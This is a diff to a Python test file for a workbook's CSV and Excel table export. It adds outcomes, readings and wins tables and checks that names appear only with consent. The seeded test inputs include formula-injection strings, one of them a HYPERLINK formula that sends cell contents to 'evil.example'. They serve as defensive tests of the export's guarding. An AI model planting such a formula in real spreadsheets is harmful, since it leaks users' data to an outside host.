@@ -6,9 +6,20 @@ import datetime as dt
 
 import pandas as pd
 import pytest
+import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from workbook import ActionItem, HealthCheck, Meeting, Organisation, Person, Resource
+from workbook import (
+    ActionItem,
+    HealthCheck,
+    Meeting,
+    Organisation,
+    Outcome,
+    Person,
+    Reading,
+    Resource,
+    Win,
+)
 from workbook.export.tables import (
     FORMULA_STARTS,
     collect_tables,
@@ -16,10 +27,11 @@ from workbook.export.tables import (
     guard,
     unguard,
 )
+from workbook.store.schema import table_for
 from workbook.testing import add_action, add_meeting, add_organisation, add_person, add_resource
 
 TABLES = ("organisations", "people", "meetings", "attendance", "resources", "problem_tree",
-          "solutions", "actions", "health_checks")
+          "solutions", "actions", "health_checks", "outcomes", "readings", "wins")
 TRICKY = [
     "=1+2", "+SUM(A1:A9)", "-2+3", "@cmd", "\tindented", "\rcarriage", "'quoted already",
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "Plain, with a comma", 'Say "hi"',
@@ -47,6 +59,11 @@ def tricky_wb(wb):
     add_resource(wb, name="+Resource", target_group="Line one\nLine two")
     wb.add(HealthCheck(organisation_id=org_ids[1], checked_on=dt.date.today(), services=2,
                        goals=1, notes="=NOW()"))
+    outcome = wb.add(Outcome(description="=Retention", unit="%", target_value=75))
+    wb.add(Reading(outcome_id=outcome.id, read_on="2026-01-31", value=61.5,
+                   source="-payroll", note="@note"))
+    wb.add(Reading(outcome_id=outcome.id, read_on="2026-02-28", text="+counting"))
+    wb.add_win(Win(won_on="2026-02-01", description="=hired"), [org_ids[2]])
     return wb
 
 
@@ -164,3 +181,31 @@ def test_actions_table_names_owner_and_partner(wb):
     table = next(t for t in collect_tables(wb) if t.name == "actions")
     row = dict(zip(table.columns, table.rows[0], strict=True))
     assert (row["owner"], row["organisation"]) == ("Ray", "Millrace")
+
+
+def test_readings_table_keeps_values_units_and_words(tricky_wb, tmp_path):
+    """Readings come out oldest first, numbers as numbers, with the outcome and its unit."""
+    folder = export_tables(tricky_wb, tmp_path)
+    readings = pd.read_csv(folder / "readings.csv", encoding="utf-8-sig",
+                           keep_default_na=False)
+    assert list(readings["read_on"]) == ["2026-01-31", "2026-02-28"]
+    assert list(readings["value"]) == ["61.5", ""]  # an empty cell for a reading in words
+    assert list(readings["unit"]) == ["%", "%"]
+    assert unguard(readings["outcome"].iloc[0]) == "=Retention"
+    assert unguard(readings["text"].iloc[1]) == "+counting"
+    sheets = pd.read_excel(folder / "tables.xlsx", sheet_name=None, keep_default_na=False)
+    assert sheets["readings"]["value"].iloc[0] == 61.5
+
+
+def test_wins_table_names_a_person_only_with_consent(wb):
+    """The person column is filled only for wins whose consent to be named is recorded."""
+    org = add_organisation(wb, name="Millrace")
+    wb.add_win(Win(won_on="2026-02-01", description="Hired", person_name="Dana",
+                   consent_on="2026-02-02"), [org.id])
+    other = wb.add(Win(won_on="2026-03-01", description="Hired too"))
+    with wb._write() as conn:  # a name without consent, as a hand-edited file might hold
+        conn.execute(sa.update(table_for(Win)).where(table_for(Win).c.id == other.id)
+                     .values(person_name="Secret Person"))
+    table = next(t for t in collect_tables(wb) if t.name == "wins")
+    rows = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
+    assert [(r["person"], r["partners"]) for r in rows] == [("Dana", "Millrace"), ("", "")]
